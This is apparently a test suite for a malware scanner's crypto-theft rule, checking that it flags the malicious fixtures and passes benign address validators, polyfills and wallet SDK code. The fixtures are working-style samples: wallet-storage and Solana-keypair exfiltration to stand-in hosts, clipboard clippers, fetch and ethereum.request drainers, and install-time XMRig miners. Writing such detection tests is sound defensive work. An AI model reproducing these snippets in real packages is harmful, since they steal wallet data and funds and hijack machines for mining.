import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'crypto-theft';
const BURN = '0x000000000000000000000000000000000000dEaD';

describe('crypto-theft: wallets', () => {
  test('wallet extension storage targeted by extension ID and posted out is malicious', () => {
    const r = scanFiles({
      'index.js':
        "const fs = require('fs'); const path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings');\nconst ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];\nfor (const id of ids) { const dir = path.join(base, id); if (fs.existsSync(dir)) fetch('https://collector.invalid/w', { method: 'POST', body: fs.readFileSync(path.join(dir, '000003.log')) }); }",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['wallet-theft'], { message: expect.stringMatching(/MetaMask, Phantom/) })]);
    expect(r.of('credential-files')).toContainEqual(finding('high', ['source:credential-file'], { message: expect.stringContaining('crypto wallet extension storage') }));
    expect(r.of('exfiltration-flow')).toContainEqual(finding('critical', ['flow:secret']));
    expect(r.verdict).toBe('malicious');
  });

  test('a list of desktop wallet folders (Electrum, Exodus, Ethereum keystore) is a high target list', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst targets = [path.join(os.homedir(), '.electrum', 'wallets'), path.join(process.env.APPDATA, 'Exodus', 'exodus.wallet'), path.join(os.homedir(), '.ethereum', 'keystore')];\nmodule.exports = targets.map((t) => fs.readdirSync(t));" });
    expect(r.of(RULE)).toEqual([finding('high', ['wallet-theft'])]);
    expect(r.verdict).toBe('suspicious');
  });

  test('reading the Solana CLI keypair at install and sending it out is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node p.js' } }),
      'p.js': "const fs = require('fs'); const os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8');\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(key);",
    });
    expect(r.of('credential-files')).toContainEqual(finding('medium', ['source:credential-file'], { message: expect.stringContaining('Solana') }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('crypto-theft: clippers', () => {
  test('clipboard clipper swapping ETH addresses is critical', () => {
    const r = scanFiles({ 'index.js': `const clipboardy = require('clipboardy');\nconst ETH = /0x[a-fA-F0-9]{40}/g;\nsetInterval(() => { const t = clipboardy.readSync(); if (ETH.test(t)) clipboardy.writeSync(t.replace(ETH, '${BURN}')); }, 500);` });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['clipper'], { message: expect.stringContaining('replaces wallet addresses') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a web clipper hooking fetch to rewrite addresses in request bodies is critical', () => {
    const r = scanFiles({ 'index.js': `const ADDR = /0x[a-fA-F0-9]{40}/g;\nconst MINE = '${BURN}';\nconst orig = window.fetch;\nwindow.fetch = function (u, o) { if (o && typeof o.body === 'string') o.body = o.body.replace(ADDR, MINE); return orig.apply(this, arguments); };` });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['clipper'], { message: expect.stringContaining('hooks fetch') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a drainer hooking window.ethereum.request in a file holding an address is critical', () => {
    const r = scanFiles({ 'index.js': `const DRAIN = '${BURN}';\nconst req = window.ethereum.request.bind(window.ethereum);\nwindow.ethereum.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = DRAIN; return req(a); };` });
    expect(r.of(RULE)).toEqual([finding('critical', ['clipper'], { message: expect.stringContaining('ethereum.request') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('a BTC clipper through pbcopy is critical', () => {
    const r = scanFiles({ 'index.js': "const { execSync } = require('child_process');\nconst BTC = /\\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\\b/;\nconst MINE = 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh';\nmodule.exports = (t) => { if (BTC.test(t)) execSync('pbcopy', { input: MINE }); };" });
    expect(r.of(RULE)).toEqual([finding('critical', ['clipper'])]);
  });
});

describe('crypto-theft: miners', () => {
  test('an XMRig launch with a stratum pool at install is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node m.js' } }),
      'm.js': "const { spawn } = require('child_process');\nspawn(__dirname + '/bin/xmrig', ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'wallet', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['miner'], { reach: 'install' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('a miner in the install script itself is critical', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { install: './xmrig -o stratum+ssl://pool.invalid:443 -u x' } }), xmrig: Buffer.from([0x7f, 0x45, 0x4c, 0x46]) });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['miner'], { file: 'package.json' }));
    expect(r.of(RULE)).toContainEqual(finding('high', ['miner'], { file: 'xmrig' }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('crypto-theft stays quiet', () => {
  test('an address validator with an ETH regex and a zero-address constant', () => {
    const r = scanFiles({ 'index.js': "const re = /^0x[0-9a-fA-F]{40}$/;\nexports.isAddress = (a) => re.test(a);\nexports.ZERO = '0x0000000000000000000000000000000000000000';\nexports.strip = (s) => s.replace(/^0x/, '');" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a fetch polyfill in a file without addresses', () => {
    const r = scanFiles({ 'index.js': "if (!globalThis.fetch) { globalThis.fetch = require('node-fetch'); }\nconst origOpen = XMLHttpRequest.prototype.open;\nXMLHttpRequest.prototype.open = function (...a) { this._url = a[1]; return origOpen.apply(this, a); };" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a wallet SDK naming one extension ID and linking to the Chrome Web Store', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nexports.METAMASK_ID = 'nkbihfbeogaeaoehlefnkodbefgpgknn';\nexports.install = 'https://chromewebstore.google.com/detail/metamask/nkbihfbeogaeaoehlefnkodbefgpgknn';" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.of('credential-files')).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});
